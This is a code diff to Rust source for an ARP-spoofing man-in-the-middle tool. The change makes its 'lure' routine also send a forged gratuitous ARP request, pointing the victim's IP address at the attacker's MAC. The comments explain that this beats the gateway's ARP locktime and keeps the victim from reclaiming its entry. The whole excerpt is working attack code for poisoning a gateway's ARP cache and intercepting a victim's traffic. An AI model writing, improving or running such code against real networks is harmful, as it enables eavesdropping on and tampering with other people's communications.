@@ -442,7 +442,8 @@ fn intercept(
 
 /// One round of the lure. `arp`: an ARP request and an ARP reply to the
 /// gateway, each saying the victim's address is at our MAC (a request for
-/// the host's own address updates its entry for the sender as well).
+/// the host's own address updates its entry for the sender as well), and a
+/// gratuitous request for the victim's address.
 /// `mac`: an ordinary ARP request for the gateway from our address, in a
 /// frame from the victim's MAC, sent to the gateway alone.
 fn lure(link: &mut Link, gateway: Party, victim: Party, report: &mut MitmReport) {
@@ -451,9 +452,14 @@ fn lure(link: &mut Link, gateway: Party, victim: Party, report: &mut MitmReport)
             let forged = (link.mac, victim.ip);
             let request = arp_packet(ARP_REQUEST, forged, ([0; 6], gateway.ip));
             let reply = arp_packet(ARP_REPLY, forged, (gateway.mac, gateway.ip));
+            // And a gratuitous one (sender and target both the victim's
+            // address), which the host takes whatever its locktime: the
+            // victim's own ARP cannot win the entry back for a second.
+            let garp = arp_packet(ARP_REQUEST, forged, ([0; 6], victim.ip));
             let request = link.send_frame(gateway.mac, ETHERTYPE_ARP, &request);
             let reply = link.send_frame(gateway.mac, ETHERTYPE_ARP, &reply);
-            [report.sent(request), report.sent(reply)]
+            let garp = link.send_frame(gateway.mac, ETHERTYPE_ARP, &garp);
+            [report.sent(request), report.sent(reply), report.sent(garp)]
                 .into_iter()
                 .filter(|&s| s)
                 .count()
